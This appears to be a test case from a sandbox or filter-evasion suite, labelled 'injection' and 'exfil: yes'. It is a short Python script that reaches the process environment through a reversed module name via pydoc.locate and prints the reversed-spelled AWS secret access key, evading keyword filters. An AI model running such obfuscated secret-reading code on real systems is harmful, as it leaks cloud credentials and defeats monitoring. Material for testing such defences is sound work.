# family: injection
# filterfamily: string-building
# tries: reach the process environment through a reversed dotted name and print the AWS secret held there
# source: none
# exfil: yes
import pydoc
import sys

token, home, hosttmp, tcp, udp, unix, decoy, userfiles = sys.argv[1:9]
env = pydoc.locate("norivne.so"[::-1])
print(env["YEK_SSECCA_TERCES_SWA"[::-1]])
